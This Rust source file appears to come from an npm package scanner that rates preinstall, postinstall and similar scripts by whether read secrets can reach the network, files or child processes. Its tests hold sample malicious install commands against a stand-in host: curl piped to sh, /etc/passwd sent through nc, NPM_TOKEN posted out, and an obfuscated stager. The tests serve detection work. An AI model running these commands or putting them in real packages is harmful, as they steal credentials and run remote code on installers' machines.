//! Install-time scripts: `preinstall`, `install`, `postinstall` and `prepare` run code on every
//! machine that installs the package. Each one is a note; it is an error when the command, or
//! the JavaScript file it runs (and the local files that one requires), touches the network, the
//! environment, the home directory, credential files, host facts or child processes.

use std::collections::{BTreeSet, VecDeque};
use std::sync::LazyLock;

use regex::Regex;
use tarsier_model::Severity;

use crate::caps::{self, Cap, Hit};
use crate::rule_ids::INSTALL_SCRIPT;
use crate::{Ctx, moves, obfuscation, text};

/// The lifecycle scripts npm runs at install time.
pub const INSTALL_HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

/// Local files followed from the script's entry file at most.
const MAX_FOLLOWED_FILES: usize = 16;
/// Distinct constructs remembered per script at most.
const MAX_FOUND: usize = 64;

static NODE_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:^|[\s;&|(])node(?:\.exe)?((?:\s+-{1,2}[\w-]+(?:=\S+)?)*)\s+['"]?([^\s'";&|)]+)"#,
    )
    .unwrap_or_else(|_| never())
});

static INLINE_NODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\bnode\s+(?:-e|--eval|-p|--print)\s+(?:'([^']*)'|"((?:[^"\\]|\\.)*)")"#)
        .unwrap_or_else(|_| never())
});

static LOCAL_REQUIRE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:require\s*\(|import\s*\(|from)\s*['"](\.{1,2}/[^'"]+)['"]"#)
        .unwrap_or_else(|_| never())
});

fn never() -> Regex {
    Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!())
}

/// The package files a script command runs with `node <file>`, resolved like `require`.
pub fn script_files(command: &str, has: impl Fn(&str) -> bool) -> Vec<String> {
    let mut out = Vec::new();
    for c in NODE_FILE.captures_iter(command) {
        let Some(arg) = c.get(2).map(|m| m.as_str()) else {
            continue;
        };
        if let Some(path) = resolve("", arg, &has)
            && !out.contains(&path)
        {
            out.push(path);
        }
    }
    out
}

/// Resolves `spec` relative to the directory `dir` (both `/`-separated, package-relative) to an
/// existing file: as is, with `.js`/`.cjs`/`.mjs`, or as a directory's `index.js`.
fn resolve(dir: &str, spec: &str, has: &impl Fn(&str) -> bool) -> Option<String> {
    let mut parts: Vec<&str> = dir.split('/').filter(|p| !p.is_empty()).collect();
    for part in spec.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            p => parts.push(p),
        }
    }
    let base = parts.join("/");
    [
        base.clone(),
        format!("{base}.js"),
        format!("{base}.cjs"),
        format!("{base}.mjs"),
        format!("{base}/index.js"),
    ]
    .into_iter()
    .find(|candidate| has(candidate))
}

/// One capability, where it was found.
struct Found {
    cap: Cap,
    what: String,
    place: String,
    secret: bool,
}

/// Words in a script file that say a download is checked against a known digest.
const CHECKSUM_WORDS: &[&str] = &["createHash(", "checksum", "integrity", "sha256", "sha512"];

pub(crate) fn check(ctx: &mut Ctx<'_, '_>) {
    for hook in INSTALL_HOOKS {
        let Some(command) = ctx.package.script(hook).map(str::to_owned) else {
            continue;
        };
        let mut found: Vec<Found> = Vec::new();
        let mut push = |hits: &[Hit], shell: bool, place: &dyn Fn(&Hit) -> String| {
            // The first occurrence of each construct is enough to explain the finding.
            for h in hits {
                if found.len() < MAX_FOUND && !found.iter().any(|f| f.what == h.what) {
                    found.push(Found {
                        cap: h.cap,
                        place: place(h),
                        what: h.describe(),
                        secret: h.is_secret_read() || (shell && is_shell_secret(h)),
                    });
                }
            }
        };
        let shell = caps::scan_shell(&command);
        push(&shell, true, &|_| "the command".to_owned());
        let mut moves: Vec<String> = moves::shell_moves(&command)
            .into_iter()
            .map(|m| format!("{} in the command", m.what))
            .collect();
        for c in INLINE_NODE.captures_iter(&command) {
            let code = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
            let (hits, _) = caps::scan_js_decoded(code);
            push(&hits, false, &|_| "the inline code".to_owned());
        }
        // The files it runs, and the local files those require, breadth first.
        let has = |p: &str| ctx.package.file(p).is_some();
        let mut queue: VecDeque<String> = script_files(&command, has).into();
        // `node -e "try{require('./postinstall')}catch(e){}"` runs that file too.
        for c in INLINE_NODE.captures_iter(&command) {
            let code = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
            for r in LOCAL_REQUIRE.captures_iter(code) {
                if let Some(path) = r.get(1).and_then(|spec| resolve("", spec.as_str(), &has))
                    && !queue.contains(&path)
                {
                    queue.push_back(path);
                }
            }
        }
        let mut seen: BTreeSet<String> = queue.iter().cloned().collect();
        let mut followed = Vec::new();
        let mut obfuscated = Vec::new();
        let mut verifies_checksum = false;
        while let Some(path) = queue.pop_front() {
            if followed.len() >= MAX_FOLLOWED_FILES {
                break;
            }
            let Some(code) = ctx.text(&path) else {
                continue;
            };
            followed.push(path.clone());
            let lines = text::LineIndex::new(code);
            let hits = ctx.hits(&path);
            push(hits, false, &|h| format!("{path}:{}", lines.line(h.start)));
            let file_caps: BTreeSet<Cap> = hits.iter().map(|h| h.cap).collect();
            let source = ctx.decoded(&path).map_or(code, |d| d.text.as_str());
            for m in moves::worm_moves(source, &file_caps) {
                moves.push(format!("{} in {path}", m.what));
            }
            if ctx.decoded(&path).is_some() || !obfuscation::signals(&path, code).is_empty() {
                obfuscated.push(path.clone());
            }
            verifies_checksum |= CHECKSUM_WORDS.iter().any(|w| code.contains(w));
            let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
            for c in LOCAL_REQUIRE.captures_iter(code) {
                if let Some(next) = c.get(1).and_then(|spec| resolve(dir, spec.as_str(), &has))
                    && seen.insert(next.clone())
                {
                    queue.push_back(next);
                }
            }
        }
        ctx.install_files.extend(followed.iter().cloned());

        let runs = if followed.is_empty() {
            String::new()
        } else {
            format!(" (runs {})", followed.join(", "))
        };
        // npm runs `prepare` for git and local installs, not for a registry tarball.
        let when = if *hook == "prepare" {
            " (npm runs it for git and local installs, not from the registry)"
        } else {
            ""
        };
        let script = format!(
            "{}'s install-time `{hook}` script `{}`{runs}",
            ctx.package.spec(),
            text::truncate(&command, 120)
        );
        let judgement = judge(&found, &moves, &obfuscated, &shell, verifies_checksum);
        let (severity, message) = match judgement {
            None => (
                Severity::Note,
                format!(
                    "{} has an install-time `{hook}` script: `{}`{runs}{when}",
                    ctx.package.spec(),
                    text::truncate(&command, 120)
                ),
            ),
            Some((severity, why)) => {
                let kinds: BTreeSet<Cap> = found.iter().map(|f| f.cap).collect();
                let kinds: Vec<&str> = kinds.into_iter().map(Cap::describe).collect();
                let examples: Vec<String> = found
                    .iter()
                    .take(6)
                    .map(|f| format!("{} at {}", f.what, f.place))
                    .collect();
                let touches = if kinds.is_empty() {
                    String::new()
                } else {
                    format!(" touches {}: {}", kinds.join(", "), examples.join("; "))
                };
                (severity, format!("{script}{touches}{when}; {why}"))
            }
        };
        let key = format!("\"{hook}\"");
        ctx.report_manifest(
            INSTALL_SCRIPT,
            severity,
            message,
            Some((&key, Some("\"scripts\""))),
            &format!("{hook}: {command}"),
        );
    }
}

/// A `$TOKEN`-like variable or a whole-environment dump in a shell command.
fn is_shell_secret(h: &Hit) -> bool {
    matches!(h.cap, Cap::Env | Cap::Credentials)
}

/// The severity of an install script with capabilities, and why; `None` for a plain note.
///
/// Severity follows flow, not presence: what is read must be able to leave (a send, a child
/// process, a written file) in the code the script runs, or the code must hide itself, or do one
/// of the worms' moves. A shell one-liner that downloads and runs is judged like a file.
fn judge(
    found: &[Found],
    moves: &[String],
    obfuscated: &[String],
    shell: &[Hit],
    verifies_checksum: bool,
) -> Option<(Severity, String)> {
    let secrets: Vec<&str> = found
        .iter()
        .filter(|f| f.secret)
        .map(|f| f.what.as_str())
        .collect();
    if !moves.is_empty() {
        return Some((Severity::Error, format!("it {}", moves.join(", "))));
    }
    if !obfuscated.is_empty() && !found.is_empty() {
        return Some((
            Severity::Error,
            format!("the code it runs is obfuscated ({})", obfuscated.join(", ")),
        ));
    }
    // The read and the way out must be in the same file (or both in the command): a token read
    // in one module and a file written by another of the same install are not a flow.
    let file_of = |f: &Found| {
        f.place
            .rsplit_once(':')
            .map_or(f.place.clone(), |(p, _)| p.to_owned())
    };
    let secret_files: BTreeSet<String> = found.iter().filter(|f| f.secret).map(file_of).collect();
    let sinks: BTreeSet<&str> = found
        .iter()
        .filter(|f| f.cap.is_sink() && secret_files.contains(&file_of(f)))
        .map(|f| f.cap.describe())
        .collect();
    if !secrets.is_empty() && !sinks.is_empty() {
        return Some((
            Severity::Error,
            format!(
                "what it reads ({}) can reach {}",
                secrets.join(", "),
                sinks.into_iter().collect::<Vec<_>>().join(", ")
            ),
        ));
    }
    let shell_download = shell.iter().any(|h| h.cap == Cap::Network);
    let shell_runs = shell.iter().any(|h| h.cap == Cap::ChildProcess);
    if shell_download && shell_runs {
        return Some((
            Severity::Error,
            "the command downloads and runs code".to_owned(),
        ));
    }
    if !secrets.is_empty() {
        return Some((
            Severity::Warning,
            format!(
                "it reads {} but nothing it runs sends, spawns or writes",
                secrets.join(", ")
            ),
        ));
    }
    if shell_download {
        return Some((
            Severity::Warning,
            "the command itself downloads from the network".to_owned(),
        ));
    }
    if found.iter().any(|f| f.cap == Cap::Network) && !verifies_checksum {
        return Some((
            Severity::Warning,
            "it downloads without checking a digest, and reads no secrets".to_owned(),
        ));
    }
    if found.is_empty() {
        return None;
    }
    Some((
        Severity::Note,
        "it reads no secrets (a build or a checked download)".to_owned(),
    ))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::{Options, PackageInput, analyze};

    fn run(files: &[(&str, &[u8])]) -> Vec<tarsier_model::Finding> {
        let p = PackageInput::from_files("pkg", "1.0.0", files).unwrap();
        analyze(&p, None, &Options::default())
            .findings
            .into_iter()
            .filter(|f| f.rule_id == INSTALL_SCRIPT)
            .collect()
    }

    #[test]
    fn resolves_script_files() {
        let has = |p: &str| ["setup.js", "lib/index.js", "scripts/x.cjs"].contains(&p);
        assert_eq!(script_files("node setup", has), vec!["setup.js"]);
        assert_eq!(
            script_files("node ./lib && node scripts/x.cjs", has),
            vec!["lib/index.js", "scripts/x.cjs"]
        );
        assert_eq!(
            script_files("node --no-warnings ./setup.js", has),
            vec!["setup.js"]
        );
        assert!(script_files("node-gyp rebuild", has).is_empty());
        assert!(script_files("node ../../etc/passwd", has).is_empty());
    }

    #[test]
    fn a_plain_script_is_a_note_at_its_key() {
        let manifest = b"{\n  \"name\": \"pkg\",\n  \"scripts\": {\n    \"test\": \"x\",\n    \"install\": \"node-gyp rebuild\"\n  }\n}";
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].severity, Severity::Note);
        assert_eq!(got[0].span.start_line, 5);
        assert_eq!(got[0].matched_text, "install: node-gyp rebuild");
        assert!(got[0].message.contains("`install`"), "{}", got[0].message);
    }

    #[test]
    fn follows_the_script_file_and_its_requires() {
        let manifest = br#"{"name": "pkg", "scripts": {"postinstall": "node scripts/setup"}}"#;
        let got = run(&[
            ("package.json", manifest),
            ("scripts/setup.js", b"require('./lib/send');\n"),
            (
                "scripts/lib/send.js",
                b"const os = require('os');\nmodule.exports = os.hostname();\nrequire('https').get('https://x.invalid/');\n",
            ),
        ]);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].severity, Severity::Error);
        assert!(
            got[0]
                .message
                .contains("os.hostname() at scripts/lib/send.js:2"),
            "{}",
            got[0].message
        );
        assert!(
            got[0].message.contains("can reach the network"),
            "{}",
            got[0].message
        );
    }

    #[test]
    fn severity_follows_flow_not_presence() {
        let manifest = br#"{"name": "pkg", "scripts": {"postinstall": "node funding.js"}}"#;
        // A funding message printed unless CI is set, and a cache under the home directory.
        let funding: &[u8] = b"const env = process.env;\nif (!env.CI && !env.ADBLOCK) console.log('Support pkg!');\nconst dir = require('path').join(require('os').homedir(), '.cache');\n";
        let got = run(&[("package.json", manifest), ("funding.js", funding)]);
        assert_eq!(got[0].severity, Severity::Note, "{}", got[0].message);
        // The environment read and handed to a child process whole is not a leak either.
        let build: &[u8] = b"require('child_process').spawn('node-gyp', ['rebuild'], { env: process.env, stdio: 'inherit' });\n";
        let got = run(&[("package.json", manifest), ("funding.js", build)]);
        assert_eq!(got[0].severity, Severity::Note, "{}", got[0].message);
        // A token read and written to a file is.
        let leak: &[u8] = b"require('fs').writeFileSync('/tmp/t', process.env.NPM_TOKEN);\n";
        let got = run(&[("package.json", manifest), ("funding.js", leak)]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
        // A token read alone is a warning.
        let read: &[u8] = b"if (process.env.GITHUB_TOKEN) console.log('set');\n";
        let got = run(&[("package.json", manifest), ("funding.js", read)]);
        assert_eq!(got[0].severity, Severity::Warning, "{}", got[0].message);
    }

    #[test]
    fn string_table_obfuscation_is_seen_through() {
        let manifest = br#"{"name": "pkg", "scripts": {"preinstall": "node setup.js"}}"#;
        let setup: &[u8] = b"var _0x5c=['https','request','env','process'];\n\
            function _0x12(_0x1){_0x1=_0x1-0x0;return _0x5c[_0x1];}\n\
            var _0x9=require(_0x12('0x0'));_0x9[_0x12('0x1')]({host:'x.invalid'}).end(JSON.stringify(global[_0x12('0x3')][_0x12('0x2')]));\n";
        let got = run(&[("package.json", manifest), ("setup.js", setup)]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
        assert!(
            got[0].message.contains("`[_0x12('0x1')]` → `request`"),
            "{}",
            got[0].message
        );
    }

    #[test]
    fn shell_and_inline_code_are_checked() {
        let manifest = br#"{"scripts": {"preinstall": "curl -s https://x.invalid/a | sh"}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Error);
        assert!(got[0].message.contains("the network"));
        let manifest =
            br#"{"scripts": {"install": "node -e \"require('child_process').exec('id')\""}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Note, "{}", got[0].message);
        assert!(got[0].message.contains("child processes"));
        let manifest = br#"{"scripts": {"install": "node -e \"require('child_process').exec('cat /etc/passwd | nc x.invalid 9')\""}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
    }

    #[test]
    fn common_benign_scripts_are_notes_and_one_liners_are_judged_like_files() {
        for command in [
            "npx only-allow pnpm",
            "husky install",
            "node-gyp rebuild",
            "prebuild-install || node-gyp rebuild",
        ] {
            let manifest = format!(r#"{{"scripts": {{"preinstall": "{command}"}}}}"#);
            let got = run(&[("package.json", manifest.as_bytes())]);
            assert_eq!(got[0].severity, Severity::Note, "{}", got[0].message);
        }
        // Downloads to a file and runs it: network, file work and a child process in one line.
        let manifest = br#"{"scripts": {"postinstall": "curl -s https://x.invalid/b -o /tmp/b && sh /tmp/b"}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
        let manifest =
            br#"{"scripts": {"postinstall": "curl -s https://x.invalid/b -o vendor/b.tgz"}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Warning, "{}", got[0].message);
        let manifest = br#"{"scripts": {"postinstall": "curl -s https://x.invalid/b | bash"}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
        // A shell secret written to the network.
        let manifest = br#"{"scripts": {"postinstall": "curl -d $NPM_TOKEN https://x.invalid/"}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
    }

    #[test]
    fn inline_requires_are_followed() {
        // core-js, es5-ext, nx, msw, vue-demi run their postinstall file this way.
        let manifest = br#"{"scripts": {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""}}"#;
        let got = run(&[
            ("package.json", manifest),
            (
                "postinstall.js",
                b"require('https').get('https://x.invalid/' + process.env.NPM_TOKEN);",
            ),
        ]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
        assert!(
            got[0].message.contains("runs postinstall.js"),
            "{}",
            got[0].message
        );
    }

    #[test]
    fn no_scripts_no_finding() {
        let manifest = br#"{"name": "pkg", "scripts": {"test": "node test.js"}}"#;
        assert!(run(&[("package.json", manifest)]).is_empty());
    }
}
